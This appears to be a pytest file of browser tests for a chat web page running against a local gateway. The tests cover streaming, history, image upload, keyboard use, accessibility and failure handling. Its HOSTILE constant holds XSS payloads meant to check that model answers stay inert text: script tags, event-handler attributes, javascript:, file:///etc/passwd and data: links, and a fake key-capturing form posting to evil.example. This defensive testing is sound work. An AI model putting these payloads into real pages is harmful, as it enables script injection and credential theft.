"""The web page in a real Chromium, against a real gateway and a real cloud. `make test-page` installs what it takes:
playwright-core and axe-core beside the scenarios in `page/`. In every scenario: no console error, and no request to
anything but the gateway."""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from device_app.gateway.pool import WireEvent
from device_app.history import History
from shared.wire import Append, decode
from tests.conftest import run_cloud, run_cloud_process
from tests.device_app.gateway.gateways import KEY, RunningGateway, run_gateway

SCENARIOS = Path(__file__).parent / "page"
BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
HOSTILE = """# A heading
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
![pixel](https://evil.example/pixel.png?you) [a link](https://evil.example/steal?q=1) <https://evil.example/auto>
[script](javascript:window.pwned=3) [file](file:///etc/passwd) [data](data:text/html,<script>window.pwned=4</script>)
[reference][1] and \u202egnp.exe <a href="https://evil.example" onclick="window.pwned = 5">plain</a>

<div style="position:fixed;inset:0" id="key-dialog"><form action="https://evil.example"><input name="key"></form></div>

| left | right |
|:-----|------:|
| <svg onload="window.pwned = 6"> | `<b>` |

```html" onmouseover="window.pwned = 7
<script>window.pwned = 8</script>
```

[1]: https://evil.example/reference "title\\" onclick=\\"window.pwned = 9"
"""

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def browser() -> None:
    """Skips where there is none."""
    if shutil.which("node") is None:
        pytest.skip("node is not installed")
    if not any(Path(path).exists() for path in (os.environ.get("STIP_CHROMIUM", ""), *BROWSERS) if path):
        pytest.skip("Chromium is not installed (STIP_CHROMIUM names another place)")
    if not (SCENARIOS / "node_modules" / "playwright-core").is_dir():
        pytest.skip("playwright-core is not installed: make test-page")


def play(scenario: str, gateway: RunningGateway, **options: Any) -> dict[str, Any]:
    """What a scenario reports; it fails as the scenario does."""
    command = ["node", f"{scenario}.mjs", f"http://127.0.0.1:{gateway.port}", KEY, json.dumps(options)]
    done = subprocess.run(command, cwd=SCENARIOS, capture_output=True, text=True, timeout=280, check=False)
    assert done.returncode == 0, done.stderr[-3000:] + done.stdout[-1000:]
    report: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    return report


@pytest.fixture(scope="module")
def cloud(smollm2: Path) -> Iterator[str]:
    with run_cloud(smollm2) as running:
        yield running.url


@pytest.fixture
def smollm2_gateway(smollm2: Path, cloud: str) -> Iterator[RunningGateway]:
    with run_gateway(smollm2, cloud=cloud) as running:
        yield running


@pytest.fixture
def tiny_gateway(tiny: Path) -> Iterator[RunningGateway]:
    with run_cloud(tiny) as cloud, run_gateway(tiny, cloud=cloud.url) as running:
        yield running


def stored(gateway: RunningGateway, question: str, answer: str, title: str = "") -> str:
    """A chat that is in the history already; gives its id."""
    history = gateway.gateway.history
    chat = history.new(model=next(iter(gateway.gateway.models)), title=title or question)
    history.append(chat.id, "user", question)
    history.append(chat.id, "assistant", answer)
    return chat.id


def test_a_prompt_streams_is_stopped_edited_answered_again_and_found_after_a_reload(
    smollm2_gateway: RunningGateway,
) -> None:
    seen = play("chat", smollm2_gateway)

    messages = smollm2_gateway.gateway.history.messages(seen["chat"])
    assert [message.role for message in messages] == ["user", "assistant", "user", "assistant"]
    assert "Paris" in str(messages[1].content)
    assert "Rome" in str(messages[3].content)


def test_the_panel_shows_the_clients_own_counters_and_what_was_on_the_wire(smollm2_gateway: RunningGateway) -> None:
    sizes = {"up": 0, "down": 0}
    vectors = 0

    def see(event: WireEvent) -> None:
        nonlocal vectors
        sizes[event.way] += len(event.frame)
        message = decode(event.frame)
        vectors += message.embeddings.shape[0] if isinstance(message, Append) else 0

    smollm2_gateway.gateway.observers.append(see)
    question = "What is the capital of France?"
    seen = play("panel", smollm2_gateway, question=question)

    history = smollm2_gateway.gateway.history
    figures = history.messages(history.chats()[0].id)[-1].details["figures"]
    assert seen["figures"] == {name: figures[name] for name in seen["figures"]}
    assert (figures["bytes_up"], figures["bytes_down"]) == (sizes["up"], sizes["down"])
    assert seen["vectors"] == figures["vectors_up"] == vectors
    assert seen["wrote"] == question
    assert question not in seen["read"]
    assert "Paris" not in seen["read"]
    assert question in seen["attack"]
    assert "all" in seen["lead"]
    assert "not encryption" in seen["limit"]
    assert seen["colours"] > 20, "the strip is empty"


def test_chats_are_searched_renamed_exported_and_deleted(tiny_gateway: RunningGateway) -> None:
    stored(tiny_gateway, "First", "A lighthouse.")
    stored(tiny_gateway, "Second", "A storm.")

    assert play("list", tiny_gateway) == {"messages": ["First", "A lighthouse."]}
    assert tiny_gateway.gateway.history.chats() == []


def test_an_image_is_dropped_and_goes_with_the_question(tiny_exports: Callable[[str], Path]) -> None:
    export = tiny_exports("llava")
    file = io.BytesIO()
    pixels = np.random.default_rng(0).integers(0, 255, (40, 60, 3), np.uint8)
    Image.fromarray(pixels).save(file, "PNG")
    kinds = []
    with run_cloud(export) as cloud, run_gateway(export, cloud=cloud.url) as gateway:
        gateway.gateway.observers.append(
            lambda event: kinds.append(getattr(decode(event.frame), "kind", "")) if event.way == "up" else None
        )
        play("image", gateway, png=base64.b64encode(file.getvalue()).decode())
        [chat] = gateway.gateway.history.chats()
        question = gateway.gateway.history.messages(chat.id)[0].content

    assert isinstance(question, list)
    assert base64.b64decode(question[0]["image_url"]["url"].partition(",")[2]) == file.getvalue()
    assert "image" in kinds


def test_a_hostile_answer_stays_text(tiny_gateway: RunningGateway) -> None:
    title = "<img src=x onerror='window.pwned = 10'>"
    chat = stored(tiny_gateway, title, HOSTILE)

    seen = play("hostile", tiny_gateway, chat=chat)

    assert seen == {"copied": "<script>window.pwned = 8</script>\n", "title": title}


def test_without_the_key_the_page_asks_for_it(tiny_gateway: RunningGateway) -> None:
    play("key", tiny_gateway)


def test_a_cloud_that_is_not_there_is_named_and_the_question_kept(tiny: Path) -> None:
    with run_gateway(tiny) as gateway:
        play("gone", gateway)


def test_a_question_that_cannot_be_sent_stays_in_the_field(tiny_gateway: RunningGateway) -> None:
    play("unsent", tiny_gateway)


def test_a_chat_that_comes_late_does_not_take_the_place_of_the_one_that_is_open(tiny_gateway: RunningGateway) -> None:
    first, second = stored(tiny_gateway, "First", "A lighthouse."), stored(tiny_gateway, "Second", "A storm.")

    play("late", tiny_gateway, first=first, second=second)


def test_an_edit_that_fails_leaves_the_chat_and_can_be_sent_again(tiny: Path) -> None:
    with run_gateway(tiny) as gateway:
        chat = stored(gateway, "First", "A lighthouse.")
        gateway.gateway.history.append(chat, "user", "Second")
        gateway.gateway.history.append(chat, "assistant", "A storm.")

        play("refused", gateway, chat=chat)


def test_what_is_kept_of_an_answer_whose_stream_broke_stays(tiny_gateway: RunningGateway) -> None:
    play("broken", tiny_gateway)

    history = tiny_gateway.gateway.history
    assert [message.role for message in history.messages(history.chats()[0].id)] == ["user", "assistant"] * 2


def test_turns_that_no_longer_fit_are_told_of(tiny_gateway: RunningGateway) -> None:
    words = "the cat sat on the mat " * 25

    play("full", tiny_gateway, chat=stored(tiny_gateway, words, words, title="Cats"))


def test_an_answer_goes_on_when_the_cloud_comes_back(smollm2: Path) -> None:
    with (
        run_cloud_process(smollm2 / "cloud") as (url, cloud),
        run_gateway(smollm2, cloud=url) as gateway,
        ThreadPoolExecutor(1) as thread,
    ):
        seen = thread.submit(play, "lost", gateway, cloud=cloud.pid)
        cloud.wait(120)
        time.sleep(6)  # after five seconds the page says that it waits
        with run_cloud_process(smollm2 / "cloud", port=int(url.rpartition(":")[2])):
            assert seen.result()["replays"] == 1
            [chat] = gateway.gateway.history.chats()
            assert len(gateway.gateway.history.messages(chat.id)) == 2


def test_everything_is_done_by_keyboard(tiny_gateway: RunningGateway) -> None:
    play("keyboard", tiny_gateway, chat=stored(tiny_gateway, "A question", "An answer."))


def test_axe_finds_no_serious_issue(tiny_gateway: RunningGateway) -> None:
    seen = play("axe", tiny_gateway, chat=stored(tiny_gateway, "A question", HOSTILE))

    assert [found for found in seen["violations"] if found["impact"] in ("serious", "critical")] == []


@pytest.mark.skipif("STIP_SCREENSHOTS" not in os.environ, reason="STIP_SCREENSHOTS names no folder")
def test_pictures_of_the_page_are_made(
    smollm2: Path, cloud: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(History, "in_memory", lambda: History.open(tmp_path / "history.sqlite3"))
    with run_gateway(smollm2, cloud=cloud) as gateway:
        for title in ("Names for a quiet café", "Is this mole harmless?", "Draft of a letter to my landlord"):
            stored(gateway, title, "An answer.")

        play("screenshots", gateway, folder=str(Path(os.environ["STIP_SCREENSHOTS"]).resolve()))
